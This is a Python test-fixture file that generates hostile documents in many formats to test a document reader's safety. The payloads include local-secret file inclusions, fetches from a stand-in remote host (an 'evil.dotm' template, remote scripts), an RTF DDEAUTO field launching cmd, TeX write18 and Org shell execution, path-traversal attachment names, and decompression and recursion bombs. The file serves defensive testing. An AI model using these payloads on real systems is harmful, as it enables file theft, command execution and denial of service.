            _SLIDE: parts[_SLIDE].replace(b"</p:spTree>", pictures.encode() + b"</p:spTree>"),
        },
    )


@attack("refers.odt", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    return opendocument(
        "text",
        f'<text:p>{{says}}</text:p><text:section><text:section-source xlink:href="file://{secret}"/></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{NOWHERE}/i.png"/></draw:frame>'
        f'<draw:frame><draw:image xlink:href="file://{secret}"/></draw:frame>'
        f'<draw:frame><draw:image xlink:href="../../../../../../..{secret}"/></draw:frame></text:p>',
    )


@attack("refers.rtf", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        "{\\rtf1{\\*\\template " + NOWHERE + "/evil.dotm}" + SAYS + "\\par"
        '{\\field{\\*\\fldinst INCLUDETEXT "{secret}"}{\\fldrslt }}'
        '{\\field{\\*\\fldinst INCLUDEPICTURE "' + NOWHERE + '/i.png" \\\\d}{\\fldrslt }}'
        "{\\object\\objautlink{\\*\\objclass Package}{\\*\\objdata 0105}}"
        '{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt }}}'
    )


@attack("refers.md", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        f"---\ncss: {{secret}}\ninclude-before: {{secret}}\nbibliography: {{secret}}\ntemplate: {{secret}}\n---\n"
        f"{SAYS}\n\n![a]({{secret}}) ![b](file://{{secret}}) ![c]({NOWHERE}/i.png)\n\n"
        f"<img src='{{secret}}'><script src='{NOWHERE}/s.js'></script><iframe src='file://{{secret}}'></iframe>\n"
        "![](data:image/png;base64,iVBORw0KGgo=)\n"
    )


@attack("refers.tex", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        "\\documentclass{article}\\usepackage{graphicx}\\begin{document}\n" + SAYS + "\n\n"
        "\\input{{secret}}\\include{{secret}}\\lstinputlisting{{secret}}\\verbatiminput{{secret}}"
        "\\includegraphics{{secret}}\\includegraphics{"
        + NOWHERE
        + "/i.png}\\immediate\\write18{touch escaped}\n"
        "\\newread\\f\\openin\\f={secret} \\read\\f to\\x \\x\n\\end{document}\n"
    )


@attack("refers.rst", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        f"{SAYS}\n\n.. include:: {{secret}}\n\n.. literalinclude:: {{secret}}\n\n.. raw:: html\n   :file: {{secret}}\n\n"
        f".. csv-table::\n   :file: {{secret}}\n\n.. image:: {NOWHERE}/i.png\n\n.. figure:: {{secret}}\n"
    )


@attack("refers.org", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        f'#+SETUPFILE: {{secret}}\n{SAYS}\n\n#+INCLUDE: "{{secret}}"\n\n[[file:{{secret}}]] [[{NOWHERE}/i.png]]\n'
        "#+BEGIN_SRC sh :results output\ntouch escaped\n#+END_SRC\n"
    )


@attack("refers.adoc", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return f"{SAYS}\n\ninclude::{{secret}}[]\n\nimage::{NOWHERE}/i.png[]\n\nimage::{{secret}}[]\n"


@attack("refers.fb2", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        '<?xml version="1.0"?><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"'
        ' xmlns:l="http://www.w3.org/1999/xlink"><body><section>'
        f'<p>{SAYS}</p><image l:href="file://{{secret}}"/><image l:href="{NOWHERE}/i.png"/></section></body></FictionBook>'
    )


@attack("refers.mhtml", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        "From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
        f"Content-Type: text/html\nContent-Location: {NOWHERE}/\n\n<p>{SAYS}</p><img src='{NOWHERE}/i.png'>"
        "<img src='file://{secret}'>\n--x\nContent-Type: message/external-body; access-type=local-file; name={secret}\n\n"
        "Content-Type: text/plain\n\n--x--\n"
    )


@attack("refers.eml", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    made = message(SAYS)
    made.add_alternative(
        f"<p>{SAYS}</p><img src='{NOWHERE}/pixel.gif'><img src='file://{secret}'><img src='cid:{secret}'>"
        f"<link rel=stylesheet href='{NOWHERE}/s.css'><iframe src='file://{secret}'></iframe>",
        subtype="html",
    )
    return made.as_bytes()


@attack("macros.docm", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    return docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000})


@attack("macros.xlsm", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    content = io.BytesIO(xlsx())
    with zipfile.ZipFile(content, "a") as target:
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000)
        target.writestr("xl/macrosheets/sheet1.xml", "<xm:macrosheet><sheetData/></xm:macrosheet>")
    return content.getvalue()


# Office files that go in circles or have broken parts


@attack("relations-in-a-circle.docx", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    kinds = ("header", "footnotes", "comments", "styles", "numbering", "aFChunk")
    circle = relations(*((f"r{number}", kind, "document.xml") for number, kind in enumerate(kinds)))
    header = f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:t>on top</w:t></w:r></w:p></w:hdr>'
    return docx(parts={_DOCUMENT_RELATIONS: circle, "word/header1.xml": header})


@attack("styles-in-a-circle.docx", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{name}"><w:basedOn w:val="{base}"/></w:style>'
        for name, base in ("AB", "BA")
    )
    return docx(
        f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{SAYS}</w:t></w:r></w:p>',
        parts={
            _DOCUMENT_RELATIONS: relations(("r1", "styles", "styles.xml")),
            "word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
        },
    )


@attack("broken-parts.docx", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    """Pictures that are bombs, broken, or of kinds that run programs; a font that is none."""
    images = {
        "media/1.png": png(30_000, 30_000, deflated(bytes(MIB), 2575)),
        "media/2.png": b"\x89PNG\r\n\x1a\n broken",
        "media/3.emf": b"\x01\0\0\0" + bytes(500),
        "media/4.svg": f"{LAUGHS}<svg {_SVG}><text>&l11;</text></svg>".encode(),
        "fonts/1.odttf": b"\xff" * 3000,
    }
    related = relations(*((f"r{number}", "image", name) for number, name in enumerate(images, 1)))
    shown = "".join(drawn(f'r:embed="r{number}"') for number in range(1, 5))
    parts = {f"word/{name}": image for name, image in images.items()}
    return docx("{says}" + shown, parts={_DOCUMENT_RELATIONS: related, **parts})


def drawn(picture: str) -> str:
    """A paragraph of Word's with a picture, given by an attribute of its `blip`."""
    space = "http://schemas.openxmlformats.org/drawingml/2006"
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{space}/wordprocessingDrawing">'
        f'<wp:extent cx="99999999999" cy="99999999999"/><a:graphic xmlns:a="{space}/main"><a:graphicData>'
        f'<pic:pic xmlns:pic="{space}/picture"><pic:blipFill><a:blip {picture}/></pic:blipFill></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


@attack("tables-in-tables.docx")
def _(_path: Path) -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 20_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 20_000)


@attack("groups-in-groups.pptx")
def _(_path: Path) -> bytes:
    made = pptx()
    groups = b"<p:grpSp>" * 20_000 + b"</p:grpSp>" * 20_000
    return replaced(made, {_SLIDE: unzipped(made)[_SLIDE].replace(b"</p:spTree>", groups + b"</p:spTree>")})


@attack("slide-is-its-own-layout.pptx")
def _(_path: Path) -> bytes:
    made = pptx()
    related = unzipped(made)[_SLIDE_RELATIONS].replace(b"../slideLayouts/slideLayout7.xml", b"slide1.xml")
    return replaced(made, {_SLIDE_RELATIONS: related})


_SAYING_ROW = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{SAYS}</t></is></c></row>'
_SPREADSHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet(rows: str, after: str = "") -> str:
    return f"<worksheet {_SPREADSHEET}><sheetData>{_SAYING_ROW}{rows}</sheetData>{after}</worksheet>"


@attack("far-corner.xlsx", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    rows = (
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c><c r="ZZZ99999999"><v>2</v></c><c r="A-1"><v>3</v></c>'
        '</row><row r="99999999999999999999"><c r="A1" s="99999999" t="s"><v>-7</v></c><c t="s"><v>1e999</v></c>'
        "</row>"
    )
    return replaced(xlsx(), {_SHEET: sheet(rows)})


@attack("endless-merges.xlsx", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    merges = '<mergeCell ref="A1:XFD1048576"/>' * 2000
    return replaced(xlsx(), {_SHEET: sheet("", f"<mergeCells>{merges}</mergeCells>")})


@attack("number-formats.xlsx", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    pieces = (
        "0",
        "#,##0",
        "[>=9]0;0",
        "&quot;",
        "\\",
        "?/",
        "0.",
        "[h",
        "E+",
        "m",
        "@",
        "*",
        "_",
        "[h]:mm:",
        ";",
    )
    codes = [piece * (50_000 // len(piece)) for piece in pieces] + ["0." + "0" * 50_000]
    formats = "".join(
        f'<numFmt numFmtId="{200 + number}" formatCode="{code.replace(">", "&gt;")}"/>'
        for number, code in enumerate(codes)
    )
    looks = "".join(f'<xf numFmtId="{200 + number}"/>' for number in range(len(codes)))
    values = ("1e308", "-1e-308", "45000.123456", "nan", "inf", "9" * 400)
    rows = "".join(
        f'<row r="{2 + style}">' + "".join(f'<c s="{style}"><v>{v}</v></c>' for v in values) + "</row>"
        for style in range(len(codes))
    )
    styles = (
        f"<styleSheet {_SPREADSHEET}><numFmts>{formats}</numFmts><fonts><font/></fonts><fills><fill/></fills>"
        f"<borders><border/></borders><cellXfs>{looks}</cellXfs></styleSheet>"
    )
    return replaced(xlsx(), {_SHEET: sheet(rows), "xl/styles.xml": styles})


@attack("repeated.ods")
def _(_path: Path) -> bytes:
    repeated = 'table:number-columns-repeated="1000000000"'
    cells = f"<table:table-cell {repeated}><text:p>{SAYS}</text:p></table:table-cell>" * 10_000
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cells}</table:table-row>'
    return opendocument("spreadsheet", f'<table:table table:name="A">{row * 10}</table:table>')


@attack("one-chapter-a-hundred-thousand-times.epub")
def _(_path: Path) -> bytes:
    return epub("<p>{says}</p>" * 1000, times=100_000)


@attack(
    "streams-in-a-circle.doc", "streams-in-a-circle.xls", "streams-in-a-circle.ppt", "streams-in-a-circle.msg"
)
def _(path: Path) -> None:
    """Containers whose tables of sectors lead back to where they began."""
    name = {
        ".doc": "WordDocument",
        ".xls": "Workbook",
        ".ppt": "PowerPoint Document",
        ".msg": "__properties_version1.0",
    }
    inside: Storage = {name[path.suffix]: bytes(9000), "Current User": bytes(40), "1Table": bytes(5000)}
    write_ole(path, inside)
    data = bytearray(path.read_bytes())
    table = 512 * (1 + struct.unpack_from("<I", data, 76)[0])
    for number in range(12):
        struct.pack_into("<I", data, table + 4 * number, number - number % 3)
    path.write_bytes(data)


@attack("storages-in-a-circle.msg")
def _(path: Path) -> None:
    """A message in which each storage is its own child."""
    write_ole(
        path, {"__properties_version1.0": bytes(40), "__attach_version1.0_#00000000": {"x": {"y": b"1"}}}
    )
    data = bytearray(path.read_bytes())
    start = 512 * (1 + struct.unpack_from("<I", data, 48)[0])
    for number in range(2, 4):
        struct.pack_into("<I", data, start + 128 * number + 76, 2)
        struct.pack_into("<I", data, start + 128 * number + 72, 2)
    path.write_bytes(data)


# Messages


def message(body: str = SAYS) -> EmailMessage:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@example.org", "b@example.org", "Ferry"
    made.set_content(body)
    return made


@attack("in-itself.eml", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    """A message in a message, a hundred deep."""
    inner = message().as_bytes()
    for number in range(100):
        mark = f"b{number}"
        inner = (
            (
                f"From: a@example.org\nSubject: {number}\nMIME-Version: 1.0\n"
                f"Content-Type: multipart/mixed; boundary={mark}\n\n--{mark}\n\n{SAYS}\n--{mark}\n"
                "Content-Type: message/rfc822\n\n"
            ).encode()
            + inner
            + f"\n--{mark}--\n".encode()
        )
    return inner


@attack("by-tens.eml")
def _(_path: Path) -> bytes:
    """Ten messages in each of ten messages in each of ten …"""
    inner = message()
    for _ in range(4):
        outer = message()
        for _ in range(10):
            outer.add_attachment(
                inner.as_bytes(), maintype="application", subtype="octet-stream", filename="a.eml"
            )
        inner = outer
    return inner.as_bytes()


@attack("ten-thousand-attachments.eml", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    part = b"--x\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nword\n"
    return (
        b"From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\n"
        + SAYS.encode()
        + b"\n"
        + part * 10_000
        + b"--x--\n"
    )


@attack("attached-bombs.eml", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    """Attachments that are bombs, named as if they were to be put elsewhere."""
    made = message()
    for name in (
        f"{path.parent}/escaped.docx",
        "../../escaped.xlsx",
        "C:\\escaped.pptx",
        "a\nb\0c.docx",
        "x" * 3000,
    ):
        content = bombed(docx(), "word/document.xml", b" " * MIB, 600)
        made.add_attachment(
            content, maintype="application", subtype="octet-stream", filename=name.replace("\n", " ")
        )
    return made.as_bytes()


@attack("attached-slowly.eml")
def _(_path: Path) -> bytes:
    """An attachment that takes too long: what was unpacked for it must go with its reader."""
    made = message()
    content = pdf_by_doubling()
    made.add_attachment(content, maintype="application", subtype="pdf", filename="slow.pdf")
    made.add_attachment(
        epub("<p>{says}</p>" * 1000, times=100_000),
        maintype="application",
        subtype="epub+zip",
        filename="slow.epub",
    )
    return made.as_bytes()


def pdf_by_doubling() -> bytes:
    path = Path("forms-by-doubling.pdf")
    made = io.BytesIO()
    ATTACKS[path.name].make(_Sink(made))  # type: ignore[arg-type]
    return made.getvalue()


class _Sink:
    def __init__(self, target: io.BytesIO) -> None:
        self.write_bytes = target.write
        self.parent = Path()


@attack("heads.eml", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    """A hundred thousand header lines, and one of ten megabytes."""
    return (
        b"From: " + b"=?utf-8?q?" * 100_000 + b"\nSubject: " + b"a " * 5_000_000 + b"\n"
        + b"Date: " + b"9" * 100_000 + b"\n" + b"X-Spam: yes\n" * 100_000
        + b"Content-Type: text/plain; " + b"charset*0*=" * 2000 + b"; charset=utf-99\n"
        + b"Content-Transfer-Encoding: x-none\n\n" + SAYS.encode()
    )  # fmt: skip


@attack("parts-in-parts.eml")
def _(_path: Path) -> bytes:
    head = b"From: a@example.org\nMIME-Version: 1.0\n"
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3000))
    return head + parts + b"Content-Type: text/plain\n\n" + SAYS.encode()


# Texts


@attack("wide.csv")
def _(_path: Path) -> str:
    return (",".join(f"c{n}" for n in range(100_000)) + "\n") * 3


@attack("unclosed-quote.csv")
def _(_path: Path) -> str:
    return 'a,b\n"' + "word, word\n" * 1_000_000


@attack("commas.csv")
def _(_path: Path) -> str:
    return f"{SAYS}\n" + "," * 30_000_000


@attack("long-rows.csv")
def _(_path: Path) -> str:
    return "a,b\n1,2\n" * 1_500_000


@attack("hole.txt")
def _(path: Path) -> None:
    """Text and then nothing: 200 MB of zeros that take no room on the disk."""
    path.write_text(f"{SAYS} " * 4000)
    with path.open("r+b") as file:
        file.truncate(200 * MIB)


@attack("one-line.txt")
def _(path: Path) -> None:
    """200 MB in one line."""
    line = f"{SAYS} ".encode() * 40_000
    with path.open("wb") as file:
        for _ in range(200):
            file.write(line)


@attack("a.txt")
def _(_path: Path) -> str:
    return "a" * 10_000_000


@attack("lines.txt")
def _(_path: Path) -> str:
    return "a\n\n" * 3_000_000


@attack("marks.txt")
def _(_path: Path) -> str:
    """One letter with a million accents, and letters in every direction."""
    return f"{SAYS} a" + "\u0301" * 1_000_000 + " \u202e\u2066\u2067" * 50_000


@attack("deep.html")
def _(_path: Path) -> str:
    return "<html><body>" + "<div>" * 100_000 + SAYS


@attack("deep-lists.html")
def _(_path: Path) -> str:
    return "<html><body>" + "<ul><li>a" * 30_000 + SAYS


@attack("deep-tables.html")
def _(_path: Path) -> str:
    return "<html><body>" + "<table><tr><td>a" * 5_000 + SAYS


@attack("tables-in-tables.html")
def _(_path: Path) -> str:
    """Few enough that nothing is cut off, each of whose widths depends on those of all within."""
    return "<html><body>" + "<table><tr><td>a<td>" * 40 + SAYS + "</table>" * 40


@attack("spans.html")
def _(_path: Path) -> str:
    cell = f'<td colspan="1000000" rowspan="1000000" width="99999999">{SAYS}</td>'
    return f"<html><body><table>{'<tr>' + cell * 20 + '</tr>'}" + f"<tr>{cell * 20}</tr>" * 20 + "</table>"


@attack("wide-table.html")
def _(_path: Path) -> str:
    return "<html><body><table><tr>" + "<td>word</td>" * 100_000 + "</tr></table>"


@attack("long-table.html")
def _(_path: Path) -> str:
    return "<html><body><table>" + "<tr><td>word</td><td>number</td></tr>" * 300_000 + "</table>"


@attack("comments.html")
def _(_path: Path) -> str:
    return f"<html><body><p>{SAYS}" + "<!--" * 300_000 + "<![CDATA[" * 100_000 + "<?" * 100_000


@attack("before-the-root.html")
def _(_path: Path) -> str:
    return "<!--" + "<?a>\n<!-- -->" * 1000 + " " * 1_000_000 + f"<html><p>{SAYS}"


@attack("picture-bomb.html", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    bomb = base64.b64encode(png(30_000, 30_000, deflated(bytes(MIB), 2575))).decode()
    large = base64.b64encode(png(9_900, 9_900, deflated(bytes(MIB), 281))).decode()
    images = f'<img src="data:image/png;base64,{bomb}">' + f'<img src="data:image/png;base64,{large}">' * 2
    return f"<html><body><p>{SAYS}</p>{images}"


@attack("entities.html")
def _(_path: Path) -> str:
    return f"<html><body><p>{SAYS}" + "&amp" * 500_000 + "&#99999999999999;" * 100_000 + "&#xD800;&#0;" * 1000


@attack("deep.rtf")
def _(_path: Path) -> str:
    return "{\\rtf1 " + "{" * 100_000 + SAYS + "}" * 100_000 + "}"


@attack("binary.rtf")
def _(_path: Path) -> str:
    return "{\\rtf1 " + SAYS + "\\bin9999999999 \\u99999999999? \\uc999999999 \\u-1?" + "\\'" * 100_000 + "}"


@attack("fonts.rtf", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return (
        "{\\rtf1{\\fonttbl"
        + "".join(f"{{\\f{n}\\fcharset{n % 256} F;}}" for n in range(20_000))
        + "}"
        + SAYS
        + "}"
    )


@attack("brackets.md")
def _(_path: Path) -> str:
    return f"{SAYS}\n\n" + "[" * 50_000 + "a" + "](" * 50_000


@attack("stars.md")
def _(_path: Path) -> str:
    return f"{SAYS}\n\n" + "*a **a " * 20_000 + "_a __a " * 20_000


@attack("quotes.md")
def _(_path: Path) -> str:
    return f"{SAYS}\n\n" + ">" * 10_000 + "a\n" + "".join(" " * n + "* a\n" for n in range(1000))


@attack("ticks.md")
def _(_path: Path) -> str:
    return f"{SAYS}\n\n" + "".join("`" * n + " " for n in range(1, 1500)) + "<" * 50_000 + "![[](" * 20_000


@attack("table.md")
def _(_path: Path) -> str:
    return f"{SAYS}\n\n" + "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n" + ("|b" * 3000 + "|\n") * 30


@attack("yaml.md")
def _(_path: Path) -> str:
    lines = "\n".join(
        f"a{n}: &a{n} [{', '.join(f'*a{n - 1}' for _ in range(9)) if n else 'lol'}]" for n in range(12)
    )
    return f"---\n{lines}\ntitle: *a11\n---\n{SAYS}\n"


@attack("macros.tex")
def _(_path: Path) -> str:
    letters = "abcdefghijklmnopqrst"
    definitions = "".join(
        "\\newcommand{\\%s}{%s}" % (one, f"\\{other} " * 10)
        for one, other in zip(letters, letters[1:], strict=False)
    )
    return (
        "\\documentclass{article}" + definitions + "\\newcommand{\\t}{word}\\newcommand{\\u}{\\u\\u}"
        "\\begin{document}" + SAYS + "\n\\a\n\\u\n\\end{document}"
    )


@attack("deep.ipynb")
def _(_path: Path) -> str:
    return '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}"


@attack("use-in-a-circle.svg")
def _(_path: Path) -> str:
    groups = "".join(f'<g id="g{n}">' + f'<use xlink:href="#g{n + 1}"/>' * 10 + "</g>" for n in range(12))
    return (
        f'<svg {_SVG} width="500" height="90"><text x="9" y="50">{SAYS}</text>'
        f'<g id="g"><use xlink:href="#g"/></g>{groups}<g id="g12"><text>a</text></g></svg>'
    )


@attack("endless.svg")
def _(_path: Path) -> str:
    return (
        f'<svg {_SVG} width="1e30" height="1e30"><text x="9" y="50" font-size="1e30">{SAYS}</text>'
        + "<g>" * 50_000
    )


@attack("records.mobi")
def _(_path: Path) -> bytes:
    return (b"a".ljust(32, b"\0") + bytes(28) + b"BOOKMOBI" + bytes(8) + struct.pack(">H", 65535)
            + struct.pack(">II", 78, 0) * 65535 + struct.pack(">HHIHH", 2, 0, 0xFFFFFFFF, 65535, 4096) + bytes(500))  # fmt: skip
